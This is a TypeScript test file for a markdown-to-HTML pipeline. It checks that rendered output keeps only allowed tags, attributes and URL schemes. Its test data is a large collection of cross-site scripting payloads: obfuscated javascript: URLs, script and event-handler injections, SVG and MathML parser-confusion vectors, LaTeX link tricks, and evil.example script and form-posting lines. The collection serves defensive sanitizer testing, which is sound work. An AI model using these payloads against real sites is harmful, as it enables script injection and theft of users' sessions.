import { expect, test } from 'vitest';
import { layOut, layOutEssay } from './pipeline.ts';
import { parseHtml, writeHtml } from './structure-fixture.ts';
import { elementsOf, type Root } from './tree.ts';

const TAGS = new Set(
  [
    'h1 h2 h3 h4 h5 h6 p blockquote pre hr ul ol li section div figure figcaption details summary dl dt dd',
    'table caption thead tbody tfoot tr th td a img em strong del code br sup input span b i u s small sub ins',
    'mark kbd samp var q cite abbr ruby rt rp button',
    'math mrow mi mo mn mtext ms mspace mfrac msqrt mroot mstyle mpadded mphantom msub msup msubsup munder mover',
    'munderover mmultiscripts mprescripts mtable mtr mtd menclose',
  ].flatMap((line) => line.split(' ')),
);
const ATTRIBUTES = new Set(
  [
    'id className href title src alt width height loading decoding srcSet sizes rel role tabIndex type disabled',
    'checked open start reversed align colSpan rowSpan scope ariaLabel ariaHidden ariaDescribedBy dataFootnoteRef',
    'dataFootnoteBackref dataFootnotes dataLang dataCopy dataDiagram dataZoom',
    'display displaystyle scriptlevel mathvariant mathsize mathcolor mathbackground stretchy fence separator form',
    'accent accentunder movablelimits largeop symmetric minsize maxsize lspace rspace linethickness depth voffset',
    'columnspan rowspan',
  ].flatMap((line) => line.split(' ')),
);
const ADDRESS = /^(https?:|mailto:|[^:]*$|[^:]*[/?#])/i;
const ID = /^(h-|user-content-fn(ref)?-|footnote-label$)/;

function expectHarmless(tree: Root): void {
  for (const { tagName, properties } of elementsOf(tree)) {
    expect(TAGS).toContain(tagName);
    for (const [name, value] of Object.entries(properties)) {
      expect(ATTRIBUTES).toContain(name);
      if (name === 'id') expect(String(value)).toMatch(ID);
      if (name === 'href' || name === 'src') {
        expect(String(value)).toMatch(ADDRESS);
        // What is no address at all goes nowhere.
        const { protocol } = URL.parse(String(value), 'https://here.invalid') ?? { protocol: 'https:' };
        expect(['https:', 'http:', 'mailto:']).toContain(protocol);
      }
      if (tagName === 'input') expect(properties).toMatchObject({ type: 'checkbox', disabled: true });
    }
  }
  expect(JSON.stringify(tree)).not.toMatch(/"type":"(comment|raw|doctype)"/);
}

/** Once more as a browser reads it, and once more what that would write. */
function expectSafe(html: string): void {
  const once = parseHtml(html);
  expectHarmless(once);
  const again = writeHtml(once);
  expectHarmless(parseHtml(again));
  expect(writeHtml(parseHtml(again))).toBe(again);
  expect(html).not.toMatch(/\0|[\u202a-\u202e\u2066-\u2069]/);
}

const RUN = 'alert(1)';
const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3A;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript\u200b:${RUN}`,
  `java\0script:${RUN}`,
  `javascript\\:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`,
  'vbscript:msgbox(1)',
  'livescript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'DATA:text/html,x',
  'blob:https://here.invalid/x',
  'file:///etc/passwd',
  'filesystem:https://here.invalid/x',
  'view-source:javascript:x',
  'feed:javascript:x',
  'jar:https://x!/y',
  'mhtml:https://x!y',
  'intent://x#Intent;scheme=javascript;end',
  'about:blank',
  'ftp://x/y',
  'tel:1',
  'x-javascript:y',
];

test.each(schemes)('the address %j goes nowhere, however it is written', async (address) => {
  for (const markdown of [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `![x](<${address}> "t")`,
    `[x][a]\n\n[a]: ${address}`,
    `[a]\n\n[a]: <${address}> "t"`,
    `![a]\n\n[a]: ${address}`,
    `<${address}>`,
    address,
    `[![x](${address})](${address})`,
    `x[^1]\n\n[^1]: [y](${address})`,
    `<a href="${address}">x</a>`,
    `<a href='${address}'>x</a>`,
    `<a href=${address}>x</a>`,
    `<img src="${address}">`,
    `<img srcset="${address}" src=${address}>`,
    `<div background="${address}"><q cite="${address}">x</q></div>`,
    `$\\href{${address}}{x} \\url{${address}} \\includegraphics{${address}}$`,
    `| a |\n|--|\n| [x](${address}) |`,
    `# [x](${address})`,
  ]) {
    expectSafe((await layOut(markdown)).html);
  }
});

const raw = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script>\n\n**x**\n\n</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script >`,
  `<script\n>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img src=# onmouseover="${RUN}" style=position:fixed>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${RUN}></style>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#https://x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<select><style></select><script>${RUN}</script></style></select>`,
  `<table><style><img src=x onerror=${RUN}></style></table>`,
  `<table background="javascript:${RUN}"><tr><td style="background:url(x)">x`,
  `<p><table><p><img src=x onerror=${RUN}>`,
  `<a href="/x"><a href="/y"><h2>x</h2><table><a href="/z">q`,
  `<b><p>x</b>y<i><div>z</p></i></div>`,
  `<ruby><rt><ruby><rp><img src=x onerror=${RUN}></ruby>`,
  `<details open ontoggle=${RUN}><summary>x`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<frameset onload=${RUN}><frame src=x></frameset>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<applet code=x></applet><param name=x value=y>`,
  `<video src=x onerror=${RUN} autoplay><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}><html manifest=x><head><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>`,
  `<div style="background:url(javascript:${RUN})" class="x" id=x>y</div>`,
  `<span class="line lit" style=x>y</span><div class="callout caution">x</div><figure class="diagram">x</figure>`,
  `<form action="https://evil.example"><input name=password type=password><button formaction=javascript:x>x</button>`,
  `<input type=image src=x onerror=${RUN}><input autofocus onfocus=${RUN}><input type=checkbox name=cookie>`,
  `<keygen autofocus onfocus=${RUN}><isindex action=javascript:x><marquee onstart=${RUN}>x</marquee>`,
  `<a id="getElementById" name="cookie">x</a><form id=test></form><img name=body id=defaultView>`,
  `<h2 id="location">x</h2><li id="cookie">x</li><section id="forms" data-footnotes>x</section>`,
  `<a href="/x" target="_blank" ping="https://evil.example" download rel=opener>x</a>`,
  `<a href="/x" onclick=${RUN} accesskey=x contenteditable draggable=true tabindex=1>x</a>`,
  `<p is="x-y" slot=x part=y data-x=y data-zoom data-copy data-diagram aria-hidden=true hidden inert>x</p>`,
  `<button popovertarget=x data-copy>x</button><dialog open>x</dialog><slot>x</slot><x-y onclick=${RUN}>z</x-y>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html [<!ENTITY x "y">]>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<img src=x on\0error=${RUN}><s\0cript>${RUN}</s\0cript>`,
  `<p title='"><img src=x onerror=${RUN}>'>x</p><abbr title='"><img src=x onerror=${RUN}>'>x</abbr>`,
  `<img src="/a" alt='"><script>${RUN}</script>' title="'&quot;onload=x">`,
  `<a href="/x" title="&quot; onmouseover=${RUN}">x</a>`,
  `<td colspan=99999999 rowspan=-1 align=x>x<ol start=javascript:x><li value=1>x`,
  `<img src=/a width=99999999 height=javascript:x>`,
  `<code class="language-ts onclick" data-meta="{1}&quot;><script>">x</code>`,
  `<pre><code class="language-&quot;><script>alert(1)</script>">x</code></pre>`,
  `<code class="math-inline">\\href{javascript:x}{y}</code><pre><code class="language-math">\\class{a}{b}</code></pre>`,
  `<pre><code class="language-mermaid">x</code></pre></pre></code></div></section></main></body></html><script>${RUN}</script>`,
];

test.each(raw)('the HTML %j does no harm', async (html) => {
  for (const markdown of [
    html,
    `文字 ${html} 文字`,
    `> ${html}`,
    `- ${html}\n- 下一项`,
    `## ${html}`,
    `| a |\n|--|\n| ${html} |`,
    `<div>\n${html}\n</div>\n\n后面 **还有**`,
    `<table><tr><td>\n\n${html}\n\n</td></tr></table>`,
    `前[^1]\n\n[^1]: ${html}`,
    `[${html}](/x) *${html}* ![${html}](/files/a.webp "${html}")`,
  ]) {
    expectSafe((await layOut(markdown)).html);
  }
});

test.each([
  ...['\\href{javascript:alert(1)}{x}', '\\url{javascript:alert(1)}', '\\class{x}{y}', '\\id{cookie}{y}'],
  ...['\\style{position:fixed}{y}', '\\htmlStyle{color:red}{y}', '\\htmlData{x=y}{z}', '\\htmlId{x}{y}'],
  ...['\\data{x=y}{z}', '\\includegraphics{https://evil.example/x.png}', '\\text{<script>alert(1)</script>}'],
  ...['\\text{</math><img src=x onerror=alert(1)>}', '<img src=x onerror=alert(1)>', '\\unicode{x3c}script'],
  ...['\\def\\a{\\a\\a}\\a', '\\gdef\\x{\\href{javascript:x}}\\x{y}', '\\color{red;position:fixed}{x}'],
  ...['\\textcolor{#f00}{x}', '\\colorbox{url(x)}{y}', '\\label{cookie}\\tag{1}', '\\ref{x}', '\\eqref{"}'],
  ...['\\rule{9999em}{9999em}', '\\hspace{9999em}', '\\raisebox{999em}{x}', '\\Huge\\Huge x', '\\cancel{x}'],
  ...[
    '\\begin{array}{|c|}\\hline a\\\\\\hline\\end{array}',
    '\\boxed{x}',
    '\\unknown',
    '{',
    '}',
    '\\',
    '^',
    '&',
  ],
  ...['\\char"3C', '\\verb|<script>|', '\\begin{CD} A @>a>> B \\end{CD}', '\\operatorname{<b>}', '\\ce{<->}'],
  ...['{'.repeat(3000), '\\frac'.repeat(500), 'x^'.repeat(500), '\\left('.repeat(300)],
])('the formula %j does no harm', async (formula) => {
  for (const markdown of [
    `文字 $${formula}$ 文字`,
    `$$\n${formula}\n$$`,
    `$$${formula}$$`,
    `\`\`\`math\n${formula}\n\`\`\``,
  ]) {
    expectSafe((await layOut(markdown)).html);
  }
});

test.each([
  ...[
    'x"onclick="alert(1)',
    '"><script>alert(1)</script>',
    'ts {1} title="\\"><img src=x onerror=alert(1)>"',
  ],
  ...[
    "ts title='<b>'",
    'ts {1-999999999999}',
    'ts {-1,--,9-1,a}',
    'ts{1}',
    '{1} x',
    '__proto__',
    'constructor',
  ],
  ...['../../x', 'mermaid {1}', 'math x', 'ts\0', '‮ts', 'html', 'svg', 'xml', 'ansi', 'md', 'vue'],
])('code called %j does no harm', async (info) => {
  const code = '</code></pre><script>alert(1)</script>\n<!-- --> %%{init: {"securityLevel":"loose"}}%%\n\0';
  for (const fence of ['```', '~~~']) expectSafe((await layOut(`${fence}${info}\n${code}\n${fence}`)).html);
});

test.each([
  ['a footnote named with markup', '[^<img src=x>]\n\n[^<img src=x>]: x'],
  ['a footnote named as a property', '[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y'],
  ['a footnote named with quotes', '[^"onclick="x]\n\n[^"onclick="x]: y'],
  ['a footnote of itself', '[^1]\n\n[^1]: [^1] [x[^1]](/a)'],
  ['a link defined as a property', '[__proto__] [constructor]\n\n[constructor]: javascript:x'],
  ['a title that leaves its quotes', '[x](/a "\\" onmouseover=\\"alert(1)") ![x](/b "\\"><script>")'],
  ['a caption with markup', '![x](/files/a.webp "<script>alert(1)</script>")'],
  ['headings named as properties', '## cookie\n\n## location\n\n## __proto__\n\n## <b id=x>forms</b>'],
  ['a callout with markup', '> [!NOTE] <img src=x onerror=alert(1)>\n> <script>x</script>'],
  ['no characters', '\0 a\0b &#0; &#x0; `\0`\n\n```\n\0\n```\n\n## \0'],
  ['halves of characters', '\ud800 x \udc00\n\n## \ud83d\n\n```ts\n\udfff\n```'],
  ['text in another order', '## a\u202eb\u2066c\n\n`x\u202ey` [x\u2067](/a\u202e) &#x2067;'],
  [
    'mermaid',
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A "javascript:alert(1)"\n```',
  ],
  ['links in links', '[a [b](/b) https://x.example [^1]](/c)\n\n[^1]: [d](/d)'],
  ['a host behind strokes', '[x](/\\evil.example) [y](\\\\\\\\evil.example) ![z](/\\evil.example/a.png)'],
])('%s does no harm', async (_name, markdown) => {
  const essay = await layOutEssay(markdown, { previewPercent: 50, pictures: {} });
  expectSafe(essay.html);
  expectSafe(essay.preview?.html ?? '');
  const words = JSON.stringify([essay.toc, essay.text, essay.summary]);
  expect(words).not.toMatch(/\\u0000|\\ud[89a-f]/i);
});

test('what leads to other hosts is told so, in every spelling', async () => {
  for (const address of [
    'https://evil.example',
    '//evil.example',
    'Https://evil.example/x',
    'HTTP://evil.example',
  ]) {
    expect((await layOut(`[x](${address})`)).html).toContain('rel="nofollow ugc noopener"');
    expect((await layOut(`![x](${address})`)).html).not.toContain('<img');
  }
  for (const address of [
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    'https:\\\\evil.example',
  ]) {
    expect((await layOut(`<a href="${address}">x</a>`)).html).toContain('rel="nofollow ugc noopener"');
    expect((await layOut(`<img src="${address}" alt=x>`)).html).not.toContain('<img');
  }
});

test('pictures named as properties have no sizes', async () => {
  const { html } = await layOutEssay('![x](constructor) ![y](__proto__)', {
    previewPercent: null,
    pictures: {},
  });
  expect(html).not.toMatch(/width|srcset/);
});
